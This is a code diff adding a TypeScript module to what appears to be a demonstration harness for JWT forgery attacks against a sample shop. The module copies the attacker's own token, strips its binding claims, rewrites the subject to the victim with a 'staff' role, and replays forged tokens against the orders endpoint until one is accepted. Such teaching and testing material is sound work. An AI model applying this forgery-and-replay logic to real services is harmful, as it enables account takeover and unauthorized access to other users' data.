@@ -1,0 +1,52 @@
+/** What an attacker with an account needs to forge a token of the victim's, and presenting it. Not: the ways to forge (jose/forge, attacks/). */
+import { decodeJwt, decodeProtectedHeader } from 'jose';
+import { decodeJws } from '#jose/jws/jws';
+import type { ForgedToken, ForgerHas } from '#jose/forgery/forgery';
+import { encodeUtf8 } from '#text/utf8';
+import type { Hands } from './attack';
+import { attackerKey, ATTACKER_PUBLIC_JWK } from './attacker-key';
+import type { Mode } from '../mode';
+import type { Setup } from '../run/setup';
+import { USERNAME } from '../shop/shop';
+
+/** Why a forgery of a token can't be tried in a mode; undefined: it can. */
+export const noTokenToForge = (mode: Mode, { sessions }: Pick<Setup, 'sessions'>): string | undefined => {
+  if (mode.id !== 'session') return undefined;
+  return sessions === 'signed-cookie'
+    ? 'There is no token to forge: the cookie’s MAC is made with a random secret and one algorithm, and nothing in the cookie can name another.'
+    : 'There is no token to forge: the cookie holds a random identifier, and what it stands for is at the server.';
+};
+
+const isJwt = (value: string): boolean => value.split('.').length === 3;
+
+/**
+ * Takes the attacker's own token, and writes the claims anew: the victim's name, a role, and nothing that binds it.
+ * @returns undefined when the attacker's account gave no token
+ */
+export const forgerHas = async (hands: Hands): Promise<ForgerHas | undefined> => {
+  const text = (await hands.ownAccount()).map(({ value }) => value).find((value) => isJwt(value));
+  if (text === undefined) {
+    hands.note('The attacker’s own login gave no token to start from.');
+    return undefined;
+  }
+  const { cnf: _key, userFingerprint: _cookie, ...claims } = decodeJwt(text);
+  return {
+    token: decodeJws(text),
+    header: JSON.stringify(decodeProtectedHeader(text)),
+    payload: encodeUtf8(JSON.stringify({ ...claims, sub: USERNAME, role: 'staff' })),
+    own: { privateKey: await attackerKey(), publicJwk: ATTACKER_PUBLIC_JWK },
+  };
+};
+
+/** Asks for the victim's orders with one forged token after the other, until one is taken. */
+export const present = async (hands: Hands, forged: readonly ForgedToken[] | string): Promise<void> => {
+  if (typeof forged === 'string') return hands.note(forged);
+  for (const { label, compact } of forged) {
+    hands.note(
+      label === undefined ? 'The attacker forges a token.' : `The attacker forges a token: ${label}.`,
+    );
+    // One after the other: the first that is taken is enough.
+    const response = await hands.replay([{ type: 'token', value: compact }], 'GET', '/orders');
+    if (response.status === 200) return;
+  }
+};
